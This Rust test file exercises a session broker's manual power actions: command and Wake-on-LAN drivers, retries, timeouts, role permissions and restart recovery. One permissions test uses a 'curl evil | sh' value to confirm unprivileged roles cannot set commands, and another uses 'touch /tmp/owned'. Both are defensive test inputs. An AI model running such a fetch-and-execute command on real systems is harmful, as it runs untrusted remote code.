//! Rules A9 and A10 for manual power actions: the `command` driver run
//! for real (a command appending `$DESKBROKER_ACTION $DESKBROKER_HOST` to a
//! file), each action recorded Pending then with its outcome, retries
//! after a failure, a hanging command killed after its timeout, and an
//! action a restart interrupted recorded Failed, never run again.

use std::path::PathBuf;
use std::time::Duration;

use broker::testkit::Kit;
use serde_json::{Value, json};

/// A file power commands append to, in a directory of its own.
pub struct PowerLog {
    _dir: tempfile::TempDir,
    path: PathBuf,
}

impl PowerLog {
    pub fn new() -> PowerLog {
        let dir = tempfile::tempdir().expect("a temporary directory");
        let path = dir.path().join("power.log");
        PowerLog { _dir: dir, path }
    }

    /// A path beside the log (a gate file, say).
    pub fn beside(&self, name: &str) -> PathBuf {
        self.path.with_file_name(name)
    }

    /// A command that appends its action and host to the log.
    pub fn command(&self) -> String {
        format!(
            "echo \"$DESKBROKER_ACTION $DESKBROKER_HOST\" >> '{}'",
            self.path.display()
        )
    }

    /// The lines written so far, in order.
    pub fn lines(&self) -> Vec<String> {
        std::fs::read_to_string(&self.path)
            .unwrap_or_default()
            .lines()
            .map(str::to_string)
            .collect()
    }

    /// The lines written so far, sorted.
    pub fn sorted(&self) -> Vec<String> {
        let mut v = self.lines();
        v.sort();
        v
    }
}

/// A broker that runs power commands (`serve --allow-power-commands`)
/// and evaluates scaling plans every second.
pub async fn kit_with_power() -> Kit {
    Kit::open_with(|s| {
        s.allow_power_commands = true;
        s.autoscale_interval = broker::autoscale::MIN_AUTOSCALE_INTERVAL;
    })
    .await
}

/// A pool `pool` whose hosts are powered by `power`, with one host h1.
async fn pool_with_driver(kit: &Kit, pool: &str, power: Value) {
    kit.create_pool(
        pool,
        json!({"hostPoolType": "Pooled", "loadBalancerType": "BreadthFirst",
               "powerSettings": power}),
    )
    .await;
    kit.ok(
        "PUT",
        &format!("/api/v1/hostPools/{pool}/sessionHosts/h1"),
        Some(json!({"address": "10.0.0.1:3389", "tags": ["gpu-room"],
                    "macAddress": "52:54:00:ab:cd:01"})),
        201,
    )
    .await;
}

/// Asserts that `method path` as the admin is refused with `status` and
/// the error `code`.
async fn refused(
    kit: &Kit,
    method: &str,
    path: &str,
    body: Option<Value>,
    status: u16,
    code: &str,
) {
    let (got, v) = kit.call(method, path, body).await;
    assert_eq!(
        (got, v["error"]["code"].as_str()),
        (status, Some(code)),
        "{method} {path}: {v}"
    );
}

const STOP: &str = "/api/v1/hostPools/p/sessionHosts/h1/stop";
const START: &str = "/api/v1/hostPools/p/sessionHosts/h1/start";

/// A9 and A10 through the API: the command driver stops and starts hosts,
/// and each action is recorded (the CLI's power commands are proved end to
/// end).
#[tokio::test(start_paused = true)]
async fn a9_a10_the_command_driver_stops_and_starts_hosts() {
    let kit = kit_with_power().await;
    let log = PowerLog::new();
    let cmd = log.command();
    pool_with_driver(
        &kit,
        "p",
        json!({"driver": "command", "powerOnCommand": cmd, "powerOffCommand": cmd}),
    )
    .await;
    let h = kit.host("p", "h1").await;
    assert_eq!(
        (
            &h["powerState"],
            &h["tags"],
            &h["macAddress"],
            &h["drainedBy"]
        ),
        (
            &json!("Running"),
            &json!(["gpu-room"]),
            &json!("52:54:00:ab:cd:01"),
            &Value::Null
        ),
        "{h}"
    );
    let pool = kit.ok("GET", "/api/v1/hostPools/p", None, 200).await;
    assert_eq!(pool["startVmOnConnect"], false);
    assert_eq!(pool["powerSettings"]["timeoutSeconds"], 120);
    assert_eq!(pool["powerActions"], json!(["start", "stop"]));

    // A running host cannot be started.
    refused(&kit, "POST", START, None, 409, "Conflict").await;
    let pending = kit.ok("POST", STOP, None, 202).await;
    assert_eq!(
        (&pending["action"], &pending["outcome"], &pending["actor"]),
        (&json!("Stop"), &json!("Pending"), &json!("admin")),
        "{pending}"
    );
    // Stopping, in the same batch as the record; a second stop waits.
    assert_eq!(kit.power_state("p", "h1").await, "Stopping");
    refused(&kit, "POST", STOP, None, 409, "Conflict").await;
    let done = kit.power_settled("p").await[0].clone();
    assert_eq!(done["outcome"], "Succeeded", "{done}");
    assert_eq!(done["id"], pending["id"]);
    let h = kit.host("p", "h1").await;
    assert_eq!(
        (&h["powerState"], &h["status"]),
        (&json!("Stopped"), &json!("Shutdown"))
    );
    // A stopped host takes nobody.
    refused(
        &kit,
        "POST",
        "/api/v1/hostPools/p/connect",
        Some(json!({"user": "alice@contoso.com"})),
        503,
        "NoSessionHostAvailable",
    )
    .await;

    let pending = kit.ok("POST", START, None, 202).await;
    assert_eq!(pending["outcome"], "Pending", "{pending}");
    let done = kit.power_settled("p").await[0].clone();
    assert_eq!(
        (&done["action"], &done["outcome"]),
        (&json!("Start"), &json!("Succeeded"))
    );
    assert_eq!(kit.power_state("p", "h1").await, "Running");
    assert_eq!(log.lines(), ["stop h1", "start h1"], "each action once");
    kit.connect("p", "alice@contoso.com").await;
    // With a session, a stop is refused unless forced.
    refused(&kit, "POST", STOP, None, 409, "Conflict").await;

    let kinds: Vec<Value> = kit
        .scaling_actions("p")
        .await
        .iter()
        .map(|a| a["action"].clone())
        .collect();
    assert_eq!(kinds, [json!("Start"), json!("Stop")], "newest first");
    // The audit log has the manual actions too.
    let audit = kit.ok("GET", "/api/v1/auditLog", None, 200).await;
    assert!(
        audit["value"]
            .as_array()
            .is_some_and(|v| v.iter().any(|e| e["action"]
                == "POST /api/v1/hostPools/p/sessionHosts/h1/stop"
                && e["outcome"] == 202)),
        "{audit}"
    );
    // Tags and macAddress; a drain through the API is the operator's, an
    // undrain clears it.
    let h = kit
        .ok(
            "PATCH",
            "/api/v1/hostPools/p/sessionHosts/h1",
            Some(json!({"tags": ["no-autoscale"], "macAddress": null,
                        "allowNewSession": false})),
            200,
        )
        .await;
    assert_eq!(
        (&h["tags"], &h["macAddress"], &h["drainedBy"]),
        (&json!(["no-autoscale"]), &Value::Null, &json!("operator")),
        "{h}"
    );
    kit.ok(
        "PATCH",
        "/api/v1/hostPools/p/sessionHosts/h1",
        Some(json!({"allowNewSession": true})),
        200,
    )
    .await;
    assert_eq!(kit.host("p", "h1").await["drainedBy"], Value::Null);
    refused(
        &kit,
        "PATCH",
        "/api/v1/hostPools/p/sessionHosts/h1",
        Some(json!({"macAddress": "52:54:00"})),
        400,
        "InvalidParameter",
    )
    .await;
}

/// Three attempts, a second then two apart, the output kept; the host goes
/// back to where it was. A command past its timeout is killed.
#[tokio::test(start_paused = true)]
async fn a9_a_failing_command_is_retried_then_recorded_failed_and_a_hanging_one_is_killed() {
    let kit = kit_with_power().await;
    let log = PowerLog::new();
    let fail = format!("{}; echo 'no such domain' >&2; exit 1", log.command());
    pool_with_driver(
        &kit,
        "p",
        json!({"driver": "command", "powerOnCommand": "true", "powerOffCommand": fail}),
    )
    .await;
    kit.ok("POST", STOP, None, 202).await;
    // The pauses are tokio's (they bound work, they decide no rule).
    let began = tokio::time::Instant::now();
    let step = Duration::from_millis(500);
    let done = kit.power_settled_over_time("p", step).await[0].clone();
    assert_eq!(
        (&done["outcome"], &done["attempts"]),
        (&json!("Failed"), &json!(3)),
        "{done}"
    );
    assert!(
        done["message"]
            .as_str()
            .unwrap_or("")
            .contains("no such domain"),
        "{done}"
    );
    assert_eq!(
        log.lines(),
        ["stop h1", "stop h1", "stop h1"],
        "three attempts"
    );
    let took = began.elapsed();
    assert!(
        took >= Duration::from_secs(3),
        "paused 1 s, then 2 s, between attempts; took {took:?}"
    );
    assert_eq!(
        kit.power_state("p", "h1").await,
        "Running",
        "back where it was"
    );

    kit.patch_pool(
        "p",
        json!({"powerSettings": {"powerOffCommand": "sleep 20", "timeoutSeconds": 1}}),
    )
    .await;
    kit.ok("POST", STOP, None, 202).await;
    let done = kit.power_settled_over_time("p", step).await[0].clone();
    assert_eq!(done["outcome"], "Failed", "{done}");
    assert!(
        done["message"]
            .as_str()
            .unwrap_or("")
            .contains("killed after its timeout of 1 s"),
        "{done}"
    );
}

#[tokio::test(start_paused = true)]
async fn a9_wake_on_lan_sends_the_magic_packet() {
    let kit = kit_with_power().await;
    let listener = tokio::net::UdpSocket::bind("127.0.0.1:0")
        .await
        .expect("a UDP socket");
    let to = listener.local_addr().expect("its address").to_string();
    let wol = json!({"driver": "wakeOnLan", "powerOffCommand": "true", "broadcastAddress": to});
    // Packets to this machine's own services only where the pool names
    // loopback among its address ranges (as for hosts, rule E4).
    refused(
        &kit,
        "PUT",
        "/api/v1/hostPools/p",
        Some(
            json!({"hostPoolType": "Pooled", "loadBalancerType": "BreadthFirst",
                    "powerSettings": wol}),
        ),
        400,
        "InvalidParameter",
    )
    .await;
    kit.create_pool(
        "p",
        json!({"hostPoolType": "Pooled", "loadBalancerType": "BreadthFirst",
               "allowedAddressRanges": ["127.0.0.0/8", "10.0.0.0/8"],
               "powerSettings": wol}),
    )
    .await;
    kit.ok(
        "PUT",
        "/api/v1/hostPools/p/sessionHosts/h1",
        Some(json!({"address": "10.0.0.1:3389", "macAddress": "52:54:00:ab:cd:01"})),
        201,
    )
    .await;
    kit.ok("POST", STOP, None, 202).await;
    assert_eq!(kit.power_settled("p").await[0]["outcome"], "Succeeded");
    kit.ok("POST", START, None, 202).await;
    assert_eq!(kit.power_settled("p").await[0]["outcome"], "Succeeded");
    // Sent before the action succeeded: the packets wait in the socket.
    let mut buf = [0u8; 200];
    let (n, _) = listener.try_recv_from(&mut buf).expect("a packet");
    let mac = [0x52, 0x54, 0x00, 0xab, 0xcd, 0x01];
    let mut want = vec![0xFF; 6];
    for _ in 0..16 {
        want.extend_from_slice(&mac);
    }
    assert_eq!(&buf[..n], &want[..]);
    assert_eq!(kit.power_state("p", "h1").await, "Running");
    // wakeOnLan takes no powerOnCommand; a bad address is refused.
    refused(
        &kit,
        "PATCH",
        "/api/v1/hostPools/p",
        Some(json!({"powerSettings": {"powerOnCommand": "true"}})),
        400,
        "InvalidParameter",
    )
    .await;
    // Not an address, and a public one (the broker sends Wake-on-LAN only
    // to the farm's own networks).
    for bad in ["not-an-ip", "8.8.8.8", "203.0.113.255:9"] {
        refused(
            &kit,
            "PATCH",
            "/api/v1/hostPools/p",
            Some(json!({"powerSettings": {"broadcastAddress": bad}})),
            400,
            "InvalidParameter",
        )
        .await;
    }
}

#[tokio::test(start_paused = true)]
async fn t1_a9_operators_start_and_stop_readers_cannot_and_only_a_full_admin_sets_commands() {
    let kit = kit_with_power().await;
    let log = PowerLog::new();
    let cmd = log.command();
    pool_with_driver(
        &kit,
        "p",
        json!({"driver": "command", "powerOnCommand": cmd, "powerOffCommand": cmd}),
    )
    .await;
    let operator = kit.credential("ops", "operator", &[]).await;
    let reader = kit.credential("look", "reader", &[]).await;
    let pool_admin = kit.credential("padmin", "admin", &["p"]).await;
    let (s, v) = kit.call_as(Some(&reader), "POST", STOP, None).await;
    assert_eq!(
        (s, v["error"]["code"].as_str()),
        (403, Some("Forbidden")),
        "{v}"
    );
    let (s, v) = kit.call_as(Some(&operator), "POST", STOP, None).await;
    assert_eq!(s, 202, "{v}");
    assert_eq!(v["actor"], "credential:ops");
    assert_eq!(kit.power_settled("p").await[0]["outcome"], "Succeeded");
    let (s, v) = kit
        .call_as(
            Some(&reader),
            "GET",
            "/api/v1/hostPools/p/scalingActions",
            None,
        )
        .await;
    assert_eq!(s, 200, "{v}");
    // An operator cannot touch power settings or host fields beyond a drain.
    let evil = json!({"powerSettings": {"powerOnCommand": "curl evil | sh"}});
    let (s, _) = kit
        .call_as(
            Some(&operator),
            "PATCH",
            "/api/v1/hostPools/p",
            Some(evil.clone()),
        )
        .await;
    assert_eq!(s, 403);
    let (s, _) = kit
        .call_as(
            Some(&operator),
            "PATCH",
            "/api/v1/hostPools/p/sessionHosts/h1",
            Some(json!({"tags": ["x"]})),
        )
        .await;
    assert_eq!(s, 403);
    let (s, v) = kit
        .call_as(
            Some(&operator),
            "PATCH",
            "/api/v1/hostPools/p/sessionHosts/h1",
            Some(json!({"allowNewSession": false})),
        )
        .await;
    assert_eq!((s, &v["drainedBy"]), (200, &json!("operator")), "{v}");
    // An admin of one pool cannot set a command (it would run as the
    // broker, over every pool), but may change the rest.
    let (s, v) = kit
        .call_as(
            Some(&pool_admin),
            "PATCH",
            "/api/v1/hostPools/p",
            Some(evil),
        )
        .await;
    assert_eq!(
        (s, v["error"]["code"].as_str()),
        (403, Some("Forbidden")),
        "{v}"
    );
    let (s, v) = kit
        .call_as(
            Some(&pool_admin),
            "PATCH",
            "/api/v1/hostPools/p",
            Some(json!({"powerSettings": {"timeoutSeconds": 30}})),
        )
        .await;
    assert_eq!(s, 200, "{v}");
    let pool = kit.ok("GET", "/api/v1/hostPools/p", None, 200).await;
    assert_eq!(
        pool["powerSettings"]["powerOnCommand"],
        cmd.as_str(),
        "unchanged"
    );
    assert_eq!(log.lines(), ["stop h1"]);
    for bad in [
        json!({"powerSettings": {"timeoutSeconds": 0}}),
        json!({"powerSettings": {"timeoutSeconds": 3601}}),
        json!({"powerSettings": {"powerOffCommand": "x".repeat(4097)}}),
        json!({"powerSettings": {"driver": "command", "powerOnCommand": null}}),
        json!({"powerSettings": {"driver": "ipmi"}}),
        json!({"powerSettings": {"shell": "bash"}}),
    ] {
        let (s, v) = kit
            .call("PATCH", "/api/v1/hostPools/p", Some(bad.clone()))
            .await;
        assert_eq!(
            (s, v["error"]["code"].as_str()),
            (400, Some("InvalidParameter")),
            "{bad}: {v}"
        );
    }
}

/// A start whose command is still running when the broker is killed is
/// recorded Failed by the restart, its host Unknown (Unavailable), and
/// neither that restart nor the next runs it again.
#[tokio::test(start_paused = true)]
async fn a10_a_kill_9_mid_action_is_not_repeated_after_the_restart() {
    let mut kit = kit_with_power().await;
    let log = PowerLog::new();
    let gate = log.beside("gate");
    // The start records itself, then waits for the gate (bounded).
    let slow_start = format!(
        "{}; i=0; while [ ! -e '{}' ] && [ $i -lt 600 ]; do sleep 0.1; i=$((i+1)); done",
        log.command(),
        gate.display()
    );
    pool_with_driver(
        &kit,
        "p",
        json!({"driver": "command", "powerOnCommand": slow_start,
               "powerOffCommand": log.command()}),
    )
    .await;
    kit.ok("POST", STOP, None, 202).await;
    assert_eq!(kit.power_settled("p").await[0]["outcome"], "Succeeded");
    kit.ok("POST", START, None, 202).await;
    kit.until("the start command ran", || log.lines().len() == 2)
        .await;
    assert_eq!(kit.power_state("p", "h1").await, "Starting");
    // A restart takes its time: the new broker tells what an earlier one
    // began by its date.
    kit.advance(Duration::from_secs(1)).await;
    kit.reopen().await;
    std::fs::write(&gate, b"").expect("the gate");
    let done = kit.power_settled("p").await[0].clone();
    assert_eq!(
        (&done["action"], &done["outcome"]),
        (&json!("Start"), &json!("Failed")),
        "{done}"
    );
    assert!(
        done["message"]
            .as_str()
            .unwrap_or("")
            .contains("not run again"),
        "{done}"
    );
    let h = kit.host("p", "h1").await;
    assert_eq!(
        (&h["powerState"], &h["status"]),
        (&json!("Unknown"), &json!("Unavailable")),
        "{h}"
    );
    // Another restart changes nothing, and the start ran once.
    kit.advance(Duration::from_secs(1)).await;
    kit.reopen().await;
    kit.settle().await;
    let all = kit.power_settled("p").await;
    assert_eq!(all.len(), 2, "{all:?}");
    assert_eq!(all[0]["id"], done["id"]);
    assert_eq!(all[0]["outcome"], "Failed");
    assert_eq!(log.lines(), ["stop h1", "start h1"]);
}

/// A broker that runs no shell refuses even the admin a command, and
/// Wake-on-LAN still works.
#[tokio::test(start_paused = true)]
async fn without_allow_power_commands_not_even_the_admin_sets_a_command() {
    let kit = Kit::open().await;
    let (status, v) = kit
        .call(
            "PUT",
            "/api/v1/hostPools/p",
            Some(
                json!({"hostPoolType": "Pooled", "loadBalancerType": "BreadthFirst",
                        "powerSettings": {"driver": "command",
                                          "powerOnCommand": "touch /tmp/owned"}}),
            ),
        )
        .await;
    assert_eq!(
        (status, v["error"]["code"].as_str()),
        (403, Some("Forbidden")),
        "{v}"
    );
    assert!(
        v["error"]["message"]
            .as_str()
            .unwrap_or("")
            .contains("--allow-power-commands"),
        "{v}"
    );
    assert_eq!(
        kit.call("GET", "/api/v1/hostPools/p", None).await.0,
        404,
        "nothing was made"
    );
    kit.create_pool(
        "p",
        json!({"hostPoolType": "Pooled", "loadBalancerType": "BreadthFirst",
               "powerSettings": {"driver": "wakeOnLan"}}),
    )
    .await;
}
